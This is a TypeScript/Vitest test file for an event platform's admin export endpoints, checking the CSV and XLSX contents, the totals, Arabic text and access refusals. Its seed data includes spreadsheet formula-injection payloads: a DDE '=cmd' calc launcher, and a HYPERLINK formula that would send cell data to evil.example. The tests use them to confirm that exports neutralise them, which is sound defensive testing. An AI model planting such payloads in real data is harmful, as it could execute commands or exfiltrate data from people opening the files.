import { randomUUID } from "node:crypto";
import { eq, sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { getDb } from "@/db/client";
import {
  booths,
  contactMessages,
  events,
  newsletterSubscribers,
  orderItems,
  orders,
  payments,
  refunds,
  seats,
  tickets,
  vendors,
} from "@/db/schema";
import {
  anonymousBrowser,
  createOrganiser,
  insertBoothEvent,
  signInAs,
  type SignedIn,
} from "../support/fixtures";
import { csvRows } from "../support/csv";
import { api, read } from "../support/requests";

// GET /api/admin/v1/exports/{name} on a known data set: booths booked by a vendor whose line of
// business is a spreadsheet formula and by a vendor whose names are Arabic, orders paid by card,
// cheque and e-Transfer with a refund and an organiser's charge, 3,000 more orders so the files
// take several pages, tickets (one voided) for seats whose labels hold a comma, and an order of
// another event that must not count.

type Db = Awaited<ReturnType<typeof getDb>>;

const INJECTED = "=cmd|' /C calc'!A0";
const ARABIC_VENDOR = "حرف الخوري";
const ARABIC_CONTACT = "سميرة الخوري";
const ARABIC_HOLDER = "ليلى حداد";
const BULK_ORDERS = 3000;

async function insertAccount(db: Db, values: { name: string; contact?: string; lob?: string }) {
  const email = `export.${randomUUID().slice(0, 8)}@example.com`;
  const [row] = await db
    .insert(vendors)
    .values({
      email,
      role: "vendor",
      contactName: values.contact ?? values.name,
      legalName: values.name,
      lob: values.lob ?? values.name,
      city: "Toronto",
      phone: "+1 416-555-0199",
      passwordHash: "unused",
    })
    .returning({ id: vendors.id });
  return { vendorId: row!.id, vendorName: values.name, email };
}

type OrderRow = typeof orders.$inferInsert;

const boothOrder = (
  vendorId: number,
  eventId: number,
  fields: Partial<OrderRow> & Pick<OrderRow, "status" | "paidCents">,
): OrderRow => {
  const subtotalCents = fields.subtotalCents ?? 45000;
  const feesCents = fields.feesCents ?? 1575;
  const chargesCents = fields.chargesCents ?? 0;
  const taxCents = fields.taxCents ?? 6055;
  const creditsCents = fields.creditsCents ?? 0;
  const totalCents = subtotalCents + feesCents + chargesCents + taxCents - creditsCents;
  const live = ["PENDING", "PARTIALLY_PAID", "PAID"].includes(fields.status!);
  return {
    vendorId,
    eventId,
    checkoutType: "BOOTH_CART",
    subtotalCents,
    feesCents,
    chargesCents,
    taxCents,
    totalCents,
    balanceCents: live ? totalCents - fields.paidCents! + (fields.refundedCents ?? 0) : 0,
    ...fields,
  };
};

async function insertOrder(db: Db, values: OrderRow) {
  const [row] = await db.insert(orders).values(values).returning({ id: orders.id });
  return row!.id;
}

async function insertPayment(db: Db, values: typeof payments.$inferInsert) {
  const [row] = await db.insert(payments).values(values).returning({ id: payments.id });
  return row!.id;
}

const exportRequest = (name: string, query: string, browser?: SignedIn) =>
  api(
    new Request(`http://localhost/api/admin/v1/exports/${name}${query}`, {
      headers: browser ? { cookie: browser.cookie } : {},
    }),
  );

/** The file's text with its byte order mark kept (Response.text() drops it). */
async function textOf(response: Response) {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
}

/** A CSV download as objects keyed by its header; the BOM checked and dropped. */
async function csvRecords(response: Response) {
  expect(response.status).toBe(200);
  const text = await textOf(response);
  expect(text.startsWith("\uFEFF")).toBe(true);
  return csvRows(text.slice(1));
}

/** An XLSX download's one sheet, as rows keyed by its header (cells as exceljs reads them). */
async function xlsxRecords(response: Response) {
  expect(response.status).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await response.arrayBuffer());
  const sheet = workbook.worksheets[0]!;
  const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
  const rows: Record<string, ExcelJS.Cell>[] = [];
  sheet.eachRow((row, n) => {
    if (n > 1) rows.push(Object.fromEntries(header.map((h, i) => [h, row.getCell(i + 1)])));
  });
  return { header, rows };
}

const dollars = (text: string) => Math.round(Number(text) * 100);
const sumCents = (rows: Record<string, string>[], column: string) =>
  rows.reduce((total, r) => total + (r[column] ? dollars(r[column]) : 0), 0);

async function scalar(db: Db, query: ReturnType<typeof sql>) {
  const result = await db.execute(query);
  const rows = (Array.isArray(result) ? result : (result as { rows: unknown[] }).rows) as {
    n: string | number | null;
  }[];
  return Number(rows[0]!.n ?? 0);
}

let organiser: SignedIn;
let vendorBrowser: SignedIn;
let eventId: number;
let eventName: string;
let ids: Record<string, number>;
let injected: { vendorId: number; email: string };
let arabic: { vendorId: number; email: string };
let buyer: { vendorId: number; email: string };
let contactMarker: string;
let subscriberEmail: string;

beforeAll(async () => {
  const db = await getDb();
  organiser = await createOrganiser(db, "Export Office");
  const someone = await insertAccount(db, { name: "Just A Vendor" });
  vendorBrowser = await signInAs(someone);
  injected = await insertAccount(db, { name: "Formula Foods", lob: INJECTED });
  arabic = await insertAccount(db, { name: ARABIC_VENDOR, contact: ARABIC_CONTACT });
  buyer = await insertAccount(db, { name: "Ticket Buyer", contact: "Nadia Haddad" });
  const bulk = await insertAccount(db, { name: "Bulk Vendor" });

  eventName = `Summer Export Festival ${randomUUID().slice(0, 6)}`;
  const fixture = await insertBoothEvent(db, eventName, [45000, 45000, 45000, 45000]);
  eventId = fixture.eventId;
  await db.update(events).set({ hasSeating: true }).where(eq(events.id, eventId));
  const [b1, b2, b3, b4] = fixture.booths;
  await db
    .update(booths)
    .set({ status: "BOOKED", vendorId: injected.vendorId, lob: INJECTED })
    .where(eq(booths.id, b1!.id));
  // a booth without a line of its own shows the vendor's
  await db
    .update(booths)
    .set({ status: "BOOKED", vendorId: arabic.vendorId })
    .where(eq(booths.id, b2!.id));
  await db.update(booths).set({ status: "RESERVED" }).where(eq(booths.id, b3!.id));
  const other = await insertBoothEvent(db, `Other ${randomUUID()}`, [10000]);

  ids = {};
  // Formula Foods: paid in full by card with a $100 refund; and an order refunded in full.
  ids.card = await insertOrder(
    db,
    boothOrder(injected.vendorId, eventId, {
      status: "PAID",
      paidCents: 52630,
      refundedCents: 10000,
      // the $100 refund lowered the price: nothing is owed again
      creditsCents: 10000,
      discountCents: 5000,
      couponCode: "SUMMER10",
    }),
  );
  const cardPayment = await insertPayment(db, {
    orderId: ids.card,
    kind: "INITIAL",
    method: "STRIPE",
    stripeSessionId: `cs_test_${randomUUID()}`,
    paymentIntentId: "pi_card_1",
    amountCents: 52630,
    status: "PAID",
  });
  await db.insert(refunds).values({
    orderId: ids.card,
    paymentId: cardPayment,
    amountCents: 10000,
    creditCents: 10000,
    reason: "Smaller booth",
    status: "SUCCEEDED",
    stripeRefundId: "re_card_1",
  });
  await db.insert(orderItems).values([
    {
      orderId: ids.card,
      kind: "BOOTH",
      boothId: b1!.id,
      name: "X-01",
      sectionName: "Test section",
      unitPriceCents: 25000,
      fulfilled: true,
    },
    { orderId: ids.card, kind: "BOOTH", boothId: b4!.id, name: "X-04", unitPriceCents: 25000 },
  ]);
  ids.refunded = await insertOrder(
    db,
    boothOrder(injected.vendorId, eventId, {
      status: "REFUNDED",
      subtotalCents: 6000,
      feesCents: 210,
      taxCents: 807,
      paidCents: 7017,
      refundedCents: 7017,
    }),
  );
  const refundedPayment = await insertPayment(db, {
    orderId: ids.refunded,
    kind: "INITIAL",
    stripeSessionId: `cs_test_${randomUUID()}`,
    paymentIntentId: "pi_refunded_1",
    amountCents: 7017,
    status: "PAID",
  });
  await db.insert(refunds).values([
    {
      orderId: ids.refunded,
      paymentId: refundedPayment,
      amountCents: 4000,
      reason: "Event day cancelled",
      status: "SUCCEEDED",
      stripeRefundId: "re_refunded_1",
    },
    // asked, not yet settled: the order counts it as given back already
    {
      orderId: ids.refunded,
      paymentId: refundedPayment,
      amountCents: 3017,
      reason: "Event day cancelled",
      status: "PENDING",
      stripeRefundId: "re_refunded_2",
    },
    // a refund that failed gave nothing back
    {
      orderId: ids.refunded,
      paymentId: refundedPayment,
      amountCents: 500,
      reason: "Tried twice",
      status: "FAILED",
    },
  ]);
  // paid after its hold had lapsed and someone else had the booth: refunded at once, never counted
  ids.late = await insertOrder(
    db,
    boothOrder(injected.vendorId, eventId, { status: "REFUNDED", paidCents: 0 }),
  );
  await insertPayment(db, {
    orderId: ids.late,
    kind: "INITIAL",
    stripeSessionId: `cs_test_${randomUUID()}`,
    paymentIntentId: "pi_late_1",
    amountCents: 52630,
    status: "REFUNDED",
  });

  // The Arabic vendor: a deposit by cheque and e-Transfer with an organiser's charge; an expired
  // checkout; and a paid order of another event.
  ids.deposit = await insertOrder(
    db,
    boothOrder(arabic.vendorId, eventId, {
      status: "PARTIALLY_PAID",
      chargesCents: 1000,
      taxCents: 6185,
      paidCents: 20000,
    }),
  );
  await insertPayment(db, {
    orderId: ids.deposit,
    kind: "INITIAL",
    method: "CHEQUE",
    reference: "CHQ-1001",
    amountCents: 15000,
    status: "PAID",
  });
  await insertPayment(db, {
    orderId: ids.deposit,
    kind: "BALANCE",
    method: "ETRANSFER",
    reference: "ET-77",
    amountCents: 5000,
    status: "PAID",
  });
  await insertPayment(db, {
    orderId: ids.deposit,
    kind: "BALANCE",
    stripeSessionId: `cs_test_${randomUUID()}`,
    amountCents: 33760,
    status: "EXPIRED",
  });
  ids.expired = await insertOrder(
    db,
    boothOrder(arabic.vendorId, eventId, { status: "EXPIRED", paidCents: 0 }),
  );
  ids.otherEvent = await insertOrder(
    db,
    boothOrder(arabic.vendorId, other.eventId, { status: "PAID", paidCents: 52630 }),
  );
  await insertPayment(db, {
    orderId: ids.otherEvent,
    kind: "INITIAL",
    stripeSessionId: `cs_test_${randomUUID()}`,
    amountCents: 52630,
    status: "PAID",
  });

  // Tickets: two seats sold to one buyer, one of the tickets voided.
  const seatRows = await db
    .insert(seats)
    .values(
      [1, 2].map((column) => ({
        eventId,
        row: 1,
        column,
        rowType: "VIP",
        priceCents: 5000,
        status: "SOLD" as const,
      })),
    )
    .returning({ id: seats.id });
  ids.tickets = await insertOrder(db, {
    vendorId: buyer.vendorId,
    eventId,
    checkoutType: "TICKETS",
    status: "PAID",
    subtotalCents: 10000,
    feesCents: 290,
    taxCents: 1300,
    totalCents: 11590,
    paidCents: 11590,
    balanceCents: 0,
  });
  await insertPayment(db, {
    orderId: ids.tickets,
    kind: "INITIAL",
    stripeSessionId: `cs_test_${randomUUID()}`,
    amountCents: 11590,
    status: "PAID",
  });
  await db.insert(orderItems).values(
    seatRows.map((s, i) => ({
      orderId: ids.tickets!,
      kind: "SEAT" as const,
      seatId: s.id,
      name: `Row 1, Seat ${i + 1}`,
      unitPriceCents: 5000,
    })),
  );
  await db.insert(tickets).values(
    seatRows.map((s, i) => ({
      orderId: ids.tickets!,
      seatId: s.id,
      eventId,
      seatLabel: `Row 1, Seat ${i + 1}`,
      holderName: ARABIC_HOLDER,
      holderAccountId: buyer.vendorId,
      voidedAt: i === 1 ? new Date("2030-06-01T16:00:00Z") : null,
    })),
  );

  // Enough orders for several pages: paid, deposits, expired and cancelled, as the bench seeds.
  await db.execute(sql`
    insert into orders (vendor_id, checkout_type, status, subtotal_cents, fees_cents, tax_cents,
      total_cents, paid_cents, balance_cents, event_id)
    select ${bulk.vendorId}, 'BOOTH_CART',
      (array['PAID', 'PARTIALLY_PAID', 'EXPIRED', 'CANCELLED'])[1 + n % 4],
      45000, 1575, 6055, 52630,
      case n % 4 when 0 then 52630 when 1 then 20000 else 0 end,
      case n % 4 when 0 then 0 when 1 then 32630 else 0 end,
      ${eventId}
    from generate_series(1, ${BULK_ORDERS}) n`);
  await db.execute(sql`
    insert into payments (order_id, kind, amount_cents, status, stripe_session_id, payment_intent_id)
    select id, 'INITIAL', paid_cents, 'PAID', 'cs_bulk_' || id, 'pi_bulk_' || id from orders
    where event_id = ${eventId} and vendor_id = ${bulk.vendorId} and paid_cents > 0`);

  contactMarker = randomUUID();
  await db.insert(contactMessages).values({
    name: "نور",
    email: "noor@example.com",
    subject: `=HYPERLINK("http://evil.example/?"&A1,"Click") ${contactMarker}`,
    message: "أريد حجز كشك في المهرجان",
  });
  subscriberEmail = `@subscriber.${randomUUID().slice(0, 8)}@example.com`;
  await db.insert(newsletterSubscribers).values({ email: subscriberEmail });
});

const HEADERS = {
  vendors: [
    "Booth",
    "Section",
    "Status",
    "Order",
    "Vendor",
    "LOB",
    "Contact",
    "Phone",
    "E-mail",
    "Paid",
    "Balance",
    "Deposit owed",
    "Deposit paid",
    "Deposit returned",
    "Deposit kept",
  ],
  orders: [
    "Order",
    "Placed",
    "Status",
    "Event",
    "Vendor",
    "E-mail",
    "Item",
    "Section",
    "Item price",
    "Coupon",
    "Subtotal",
    "Discount",
    "Fees",
    "Charges",
    "HST",
    "Credits",
    "Total",
    "Paid",
    "Refunded",
    "Balance",
    "Deposit owed",
    "Deposit paid",
    "Deposit returned",
    "Deposit kept",
    "Method",
    "Reference",
    "Stripe session",
    "Payment intent",
    "Stripe refund",
  ],
  tickets: [
    "Seat",
    "Status",
    "Ticket holder",
    "Buyer",
    "E-mail",
    "Order",
    "Seat price",
    "Order paid",
    "Issued",
    "Voided",
    "Ticket",
  ],
  contacts: ["Received", "Name", "E-mail", "Subject", "Message"],
  newsletter: ["E-mail", "Subscribed"],
};

describe("export files", () => {
  it.each(Object.entries(HEADERS))(
    "%s: a CSV and an XLSX file with the header row, sent as attachments",
    async (kind, header) => {
      const csv = await exportRequest(`${kind}.csv`, `?eventId=${eventId}`, organiser);
      expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(csv.headers.get("cache-control")).toBe("no-store");
      const slug = eventName.toLowerCase().replace(/ /g, "-");
      const name =
        kind === "contacts" || kind === "newsletter" ? kind : `${kind}-${slug.slice(0, 40)}`;
      expect(csv.headers.get("content-disposition")).toMatch(
        new RegExp(`^attachment; filename="${name}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
      );
      expect((await csvRecords(csv)).header).toEqual(header);

      const xlsx = await exportRequest(`${kind}.xlsx`, `?eventId=${eventId}`, organiser);
      expect(xlsx.headers.get("content-type")).toBe(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      );
      expect(xlsx.headers.get("content-disposition")).toMatch(
        new RegExp(`^attachment; filename="${name}-\\d{4}-\\d{2}-\\d{2}\\.xlsx"$`),
      );
      expect((await xlsxRecords(xlsx)).header).toEqual(header);
    },
  );

  it("orders: every order of the event, and the paid, refunded and owed totals equal the ledger", async () => {
    const db = await getDb();
    const { rows } = await csvRecords(
      await exportRequest("orders.csv", `?eventId=${eventId}`, organiser),
    );
    // a row per item: the card order's two booths and the ticket order's two seats
    expect(rows).toHaveLength(BULK_ORDERS + 6 + 2);
    expect(new Set(rows.map((r) => Number(r.Order))).size).toBe(BULK_ORDERS + 6);
    expect(rows.map((r) => Number(r.Order))).not.toContain(ids.otherEvent);

    // the ledger: payments that came in, refunds given back (all but the failed), and the
    // dashboard's money collected (net of refunds) and balances outstanding
    const paidIn = await scalar(
      db,
      sql`select sum(p.amount_cents) as n from payments p join orders o on o.id = p.order_id
        where o.event_id = ${eventId} and p.status = 'PAID'`,
    );
    const givenBack = await scalar(
      db,
      sql`select sum(r.amount_cents) as n from refunds r join orders o on o.id = r.order_id
        where o.event_id = ${eventId} and r.status <> 'FAILED'`,
    );
    const dashboard = await read(
      await api(
        new Request(`http://localhost/api/admin/v1/dashboard?eventId=${eventId}`, {
          headers: { cookie: organiser.cookie },
        }),
      ),
    );
    const paid = sumCents(rows, "Paid");
    const refunded = sumCents(rows, "Refunded");
    expect(paid).toBe(paidIn);
    expect(refunded).toBe(givenBack);
    expect(refunded).toBe(10000 + 7017);
    expect(paid - refunded).toBe(dashboard.payload.moneyCollectedCents);
    expect(sumCents(rows, "Balance")).toBe(dashboard.payload.balancesOutstandingCents);

    // each order's first row (the one with its figures)
    const byId = new Map<number, Record<string, string>>();
    for (const r of rows) if (!byId.has(Number(r.Order))) byId.set(Number(r.Order), r);
    const cardRows = rows.filter((r) => Number(r.Order) === ids.card);
    expect(cardRows.map((r) => r.Item)).toEqual(["X-01", "X-04"]);
    // the order's columns on each of its rows, its figures on the first only
    expect(cardRows[1]).toMatchObject({
      Status: "Paid",
      Event: eventName,
      Vendor: "Formula Foods",
      "Item price": "250.00",
      Total: "",
      Paid: "",
      Balance: "",
      Method: "Card (Stripe)",
    });
    expect(byId.get(ids.card!)).toMatchObject({
      Status: "Paid",
      Event: eventName,
      Vendor: "Formula Foods",
      "E-mail": injected.email,
      Item: "X-01",
      Section: "Test section",
      "Item price": "250.00",
      Coupon: "SUMMER10",
      Subtotal: "450.00",
      Discount: "50.00",
      Fees: "15.75",
      Charges: "0.00",
      HST: "60.55",
      Credits: "100.00",
      Total: "426.30",
      Paid: "526.30",
      Refunded: "100.00",
      Balance: "0.00",
      Method: "Card (Stripe)",
      Reference: "",
      "Payment intent": "pi_card_1",
      "Stripe refund": "re_card_1",
    });
    expect(byId.get(ids.card!)!["Stripe session"]).toMatch(/^cs_test_/);
    expect(byId.get(ids.card!)!.Placed).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    expect(byId.get(ids.deposit!)).toMatchObject({
      Status: "Deposit paid, $337.60 due",
      Item: "",
      Vendor: ARABIC_VENDOR,
      Charges: "10.00",
      HST: "61.85",
      Total: "537.60",
      Paid: "200.00",
      Balance: "337.60",
      // settled payments only, one per line: the expired balance checkout is not listed
      Method: "Cheque\ne-Transfer",
      Reference: "CHQ-1001\nET-77",
      "Stripe session": "",
    });
    expect(byId.get(ids.refunded!)).toMatchObject({
      Status: "Refunded",
      Paid: "70.17",
      Refunded: "70.17",
      Balance: "0.00",
      "Stripe refund": "re_refunded_1\nre_refunded_2",
    });
    expect(byId.get(ids.late!)).toMatchObject({
      Status: "Refunded",
      Paid: "0.00",
      Refunded: "0.00",
      Balance: "0.00",
      Method: "Card (Stripe)",
      "Payment intent": "pi_late_1",
    });
    // an expired checkout owes nothing
    expect(byId.get(ids.expired!)).toMatchObject({
      Status: "Checkout expired, not paid",
      Paid: "0.00",
      Balance: "0.00",
    });
    // a seat's label keeps its comma: one row per seat, never a list
    expect(rows.filter((r) => Number(r.Order) === ids.tickets).map((r) => r.Item)).toEqual([
      "Row 1, Seat 1",
      "Row 1, Seat 2",
    ]);
    // every status in words, none as its code
    for (const r of rows) expect(r.Status).not.toMatch(/^[A-Z_]+$/);
    expect(new Set(rows.map((r) => r.Status!.replace(/\$[\d,.]+/, "$")))).toEqual(
      new Set([
        "Paid",
        "Deposit paid, $ due",
        "Refunded",
        "Checkout expired, not paid",
        "Cancelled",
      ]),
    );
  });

  it("orders: the orders list's filter (status, search, event or every event) chooses the orders", async () => {
    const db = await getDb();
    const deposits = await csvRecords(
      await exportRequest("orders.csv", `?eventId=${eventId}&status=PARTIALLY_PAID`, organiser),
    );
    const expected = await scalar(
      db,
      sql`select count(*) as n from orders where event_id = ${eventId} and status = 'PARTIALLY_PAID'`,
    );
    expect(expected).toBeGreaterThan(1);
    expect(deposits.rows).toHaveLength(expected);
    // a partly paid order of this event paid a deposit: at most half of its total
    for (const r of deposits.rows) expect(r.Status).toMatch(/^Deposit paid, \$[\d,.]+ due$/);
    expect(deposits.rows.map((r) => Number(r.Order))).toContain(ids.deposit);

    // the search of the list: a vendor's name, in this event only
    const searched = await csvRecords(
      await exportRequest("orders.csv", `?eventId=${eventId}&q=formula%20foods`, organiser),
    );
    expect(new Set(searched.rows.map((r) => Number(r.Order)))).toEqual(
      new Set([ids.card, ids.refunded, ids.late]),
    );
    // a seat's name finds its order
    const seat = await csvRecords(
      await exportRequest("orders.csv", `?eventId=${eventId}&q=Row%201,%20Seat%202`, organiser),
    );
    expect(new Set(seat.rows.map((r) => Number(r.Order)))).toEqual(new Set([ids.tickets]));

    // without an event: every event's orders that match, each naming its event
    const everywhere = await exportRequest(
      "orders.csv",
      `?status=PAID&q=${encodeURIComponent(ARABIC_VENDOR)}`,
      organiser,
    );
    expect(everywhere.headers.get("content-disposition")).toMatch(
      /^attachment; filename="orders-all-events-paid-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const other = await csvRecords(everywhere);
    expect(other.rows.map((r) => Number(r.Order))).toEqual([ids.otherEvent]);
    expect(other.rows[0]).toMatchObject({
      Status: "Paid",
      Event: expect.stringMatching(/^Other /),
    });

    const filtered = await exportRequest(
      "orders.xlsx",
      `?eventId=${eventId}&status=PARTIALLY_PAID`,
      organiser,
    );
    expect(filtered.headers.get("content-disposition")).toMatch(
      /^attachment; filename="orders-summer-export-festival-[a-z0-9-]+-partially-paid-\d{4}-\d{2}-\d{2}\.xlsx"$/,
    );
    expect((await xlsxRecords(filtered)).rows).toHaveLength(expected);
  });

  it("XLSX: filter buttons over the header, a frozen header row, widths and currency cells", async () => {
    for (const kind of Object.keys(HEADERS)) {
      const response = await exportRequest(`${kind}.xlsx`, `?eventId=${eventId}`, organiser);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(await response.arrayBuffer());
      const sheet = workbook.worksheets[0]!;
      const columns = HEADERS[kind as keyof typeof HEADERS].length;
      const letter = (n: number) => String.fromCharCode(64 + n);
      const last =
        columns > 26
          ? letter(Math.floor((columns - 1) / 26)) + letter(((columns - 1) % 26) + 1)
          : letter(columns);
      expect(sheet.autoFilter, kind).toBe(`A1:${last}${sheet.rowCount}`);
      expect(sheet.views[0], kind).toMatchObject({ state: "frozen", ySplit: 1 });
      for (let c = 1; c <= columns; c++) expect(sheet.getColumn(c).width, kind).toBeGreaterThan(8);
    }
  });

  it("orders.xlsx: amounts are currency cells in dollars with the same totals", async () => {
    const csv = await csvRecords(
      await exportRequest("orders.csv", `?eventId=${eventId}`, organiser),
    );
    const { rows } = await xlsxRecords(
      await exportRequest("orders.xlsx", `?eventId=${eventId}`, organiser),
    );
    expect(rows).toHaveLength(csv.rows.length);
    for (const column of ["Paid", "Refunded", "Balance"]) {
      const cents = rows.reduce(
        (total, r) => total + Math.round((r[column]!.value as number) * 100),
        0,
      );
      expect(cents, column).toBe(sumCents(csv.rows, column));
    }
    const card = rows.find((r) => r.Order!.value === ids.card)!;
    expect(card.Status!.value).toBe("Paid");
    expect(card.Total!.type).toBe(ExcelJS.ValueType.Number);
    expect(card.Total!.value).toBe(426.3);
    expect(card.Total!.numFmt).toBe('"$"#,##0.00');
    expect(card.Placed!.value).toBeInstanceOf(Date);
    const deposit = rows.find((r) => r.Order!.value === ids.deposit)!;
    expect(deposit.Reference!.value).toBe("CHQ-1001\nET-77");
    expect(deposit.Reference!.alignment).toMatchObject({ wrapText: true });
    const seatsRows = rows.filter((r) => r.Order!.value === ids.tickets);
    expect(seatsRows.map((r) => r.Item!.value)).toEqual(["Row 1, Seat 1", "Row 1, Seat 2"]);
  });

  it("vendors: the booked booths with each vendor's paid and owed money for the event", async () => {
    const { rows } = await csvRecords(
      await exportRequest("vendors.csv", `?eventId=${eventId}`, organiser),
    );
    expect(rows).toEqual([
      {
        Booth: "X-01",
        Section: "Test section",
        // the order that booked it, in words
        Status: "Paid",
        Order: String(ids.card),
        Vendor: "Formula Foods",
        // the formula is text: an apostrophe goes before it
        LOB: `'${INJECTED}`,
        Contact: "Formula Foods",
        Phone: "'+1 416-555-0199",
        "E-mail": injected.email,
        // what the PAID order holds ($526.30 less its $100 refund); the refunded one does not count
        Paid: "426.30",
        Balance: "0.00",
        // no damage deposit on this event's orders
        "Deposit owed": "0.00",
        "Deposit paid": "0.00",
        "Deposit returned": "0.00",
        "Deposit kept": "0.00",
      },
      {
        Booth: "X-02",
        Section: "Test section",
        Status: "Booked by the office",
        Order: "",
        Vendor: ARABIC_VENDOR,
        LOB: ARABIC_VENDOR,
        Contact: ARABIC_CONTACT,
        Phone: "'+1 416-555-0199",
        "E-mail": arabic.email,
        // the deposit only: not the expired checkout, not the other event's order
        Paid: "200.00",
        Balance: "337.60",
        "Deposit owed": "",
        "Deposit paid": "",
        "Deposit returned": "",
        "Deposit kept": "",
      },
    ]);
  });

  it("says Paid in part, not Deposit paid, for a partly paid order that paid most of its total", async () => {
    const db = await getDb();
    const fixture = await insertBoothEvent(db, `Charged ${randomUUID()}`, [45000, 45000]);
    const vendor = await insertAccount(db, { name: "Added Later" });
    const [booth, other] = fixture.booths;
    await db
      .update(booths)
      .set({ status: "BOOKED", vendorId: vendor.vendorId })
      .where(sql`${booths.id} in (${booth!.id}, ${other!.id})`);
    // paid in full ($526.30), then an organiser's $250 charge and its HST: $282.50 of $808.80 owed
    const charged = await insertOrder(
      db,
      boothOrder(vendor.vendorId, fixture.eventId, {
        status: "PARTIALLY_PAID",
        chargesCents: 25000,
        taxCents: 6055 + 3250,
        paidCents: 52630,
      }),
    );
    // the cart's minimum first payment of the same price: a deposit
    const deposit = await insertOrder(
      db,
      boothOrder(vendor.vendorId, fixture.eventId, { status: "PARTIALLY_PAID", paidCents: 13158 }),
    );
    await db.insert(orderItems).values([
      {
        orderId: charged,
        kind: "BOOTH",
        boothId: booth!.id,
        name: "X-01",
        unitPriceCents: 45000,
        fulfilled: true,
      },
      {
        orderId: deposit,
        kind: "BOOTH",
        boothId: other!.id,
        name: "X-02",
        unitPriceCents: 45000,
        fulfilled: true,
      },
    ]);

    const byOrder = (rows: Record<string, string>[]) =>
      Object.fromEntries(rows.map((r) => [Number(r.Order), r.Status]));
    const words = {
      [charged]: "Paid in part, $282.50 due",
      [deposit]: "Deposit paid, $394.72 due",
    };
    const orderRows = await csvRecords(
      await exportRequest("orders.csv", `?eventId=${fixture.eventId}`, organiser),
    );
    expect(byOrder(orderRows.rows)).toEqual(words);
    const boothRows = await csvRecords(
      await exportRequest("vendors.csv", `?eventId=${fixture.eventId}`, organiser),
    );
    expect(byOrder(boothRows.rows)).toEqual(words);
    const sheet = await xlsxRecords(
      await exportRequest("orders.xlsx", `?eventId=${fixture.eventId}`, organiser),
    );
    expect(sheet.rows.find((r) => r.Order!.value === charged)!.Status!.value).toBe(words[charged]);
  });

  it("vendors.xlsx: the injected formula is a text cell and Arabic survives", async () => {
    const { rows } = await xlsxRecords(
      await exportRequest("vendors.xlsx", `?eventId=${eventId}`, organiser),
    );
    expect(rows).toHaveLength(2);
    const [formula, arabicRow] = rows;
    expect(formula!.LOB!.type).toBe(ExcelJS.ValueType.String);
    expect(formula!.LOB!.formula).toBeUndefined();
    expect(formula!.LOB!.value).toBe(INJECTED);
    expect(arabicRow!.Vendor!.value).toBe(ARABIC_VENDOR);
    expect(arabicRow!.Contact!.value).toBe(ARABIC_CONTACT);
    expect(arabicRow!.Paid!.value).toBe(200);
    expect(arabicRow!.Balance!.value).toBe(337.6);
  });

  it("tickets: one row per ticket by seat, its label whole, voided ones marked in words", async () => {
    const { rows } = await csvRecords(
      await exportRequest("tickets.csv", `?eventId=${eventId}`, organiser),
    );
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      Seat: "Row 1, Seat 1",
      Status: "Valid",
      "Ticket holder": ARABIC_HOLDER,
      Buyer: "Nadia Haddad",
      "E-mail": buyer.email,
      Order: String(ids.tickets),
      "Seat price": "50.00",
      "Order paid": "115.90",
      Voided: "",
    });
    expect(rows[1]).toMatchObject({
      Seat: "Row 1, Seat 2",
      Status: "Voided",
      Voided: "2030-06-01 12:00",
    });
  });

  it("contacts and newsletter: the site's lists, with or without an eventId", async () => {
    const contacts = await csvRecords(await exportRequest("contacts.csv", "", organiser));
    const message = contacts.rows.find((r) => r.Subject!.includes(contactMarker));
    expect(message).toMatchObject({
      Name: "نور",
      Subject: `'=HYPERLINK("http://evil.example/?"&A1,"Click") ${contactMarker}`,
      Message: "أريد حجز كشك في المهرجان",
    });
    const subscribers = await csvRecords(
      await exportRequest("newsletter.csv", `?eventId=${eventId}`, organiser),
    );
    expect(subscribers.rows.map((r) => r["E-mail"])).toContain(`'${subscriberEmail}`);
    const xlsx = await xlsxRecords(await exportRequest("newsletter.xlsx", "", organiser));
    expect(xlsx.rows.map((r) => r["E-mail"]!.value)).toContain(subscriberEmail);
  });

  it("is read from the database while it downloads: an order placed meanwhile is in the file", async () => {
    const response = await exportRequest("orders.csv", `?eventId=${eventId}`, organiser);
    const reader = response.body!.getReader();
    const chunks: Uint8Array[] = [];
    for (let i = 0; i < 2; i++) chunks.push((await reader.read()).value!);
    const db = await getDb();
    const late = await insertOrder(
      db,
      boothOrder(arabic.vendorId, eventId, { status: "CANCELLED", paidCents: 0 }),
    );
    for (;;) {
      const chunk = await reader.read();
      if (chunk.done) break;
      chunks.push(chunk.value);
    }
    const { rows } = await csvRecords(new Response(new Blob(chunks as BlobPart[])));
    expect(rows.map((r) => Number(r.Order))).toContain(late);
    await db.delete(orders).where(eq(orders.id, late));
  });

  it("a download the client abandons stops without an error", async () => {
    for (const name of ["orders.csv", "orders.xlsx"]) {
      const response = await exportRequest(name, `?eventId=${eventId}`, organiser);
      const reader = response.body!.getReader();
      await reader.read();
      await reader.cancel();
    }
    const again = await exportRequest("vendors.csv", `?eventId=${eventId}`, organiser);
    expect((await csvRecords(again)).rows).toHaveLength(2);
  });
});

describe("refusals", () => {
  it("asks an anonymous caller to log in and refuses a vendor", async () => {
    for (const name of ["orders.csv", "contacts.xlsx"]) {
      const anonymous = await exportRequest(name, `?eventId=${eventId}`, anonymousBrowser());
      expect(anonymous.status).toBe(401);
      expect((await read(anonymous)).status).toBe("UNAUTHORIZED");
      const vendor = await exportRequest(name, `?eventId=${eventId}`, vendorBrowser);
      expect(vendor.status).toBe(403);
      expect((await read(vendor)).status).toBe("FORBIDDEN");
    }
  });

  it("answers NOT_FOUND for an unknown event", async () => {
    const answer = await read(
      await exportRequest("vendors.xlsx", "?eventId=2147483647", organiser),
    );
    expect(answer).toMatchObject({ code: 404, status: "NOT_FOUND", payload: "Event not found" });
  });

  it.each(["orders.pdf", "secrets.csv", "orders", "orders.csv.xlsx", "ORDERS.CSV"])(
    "answers BAD_REQUEST for the name %s",
    async (name) => {
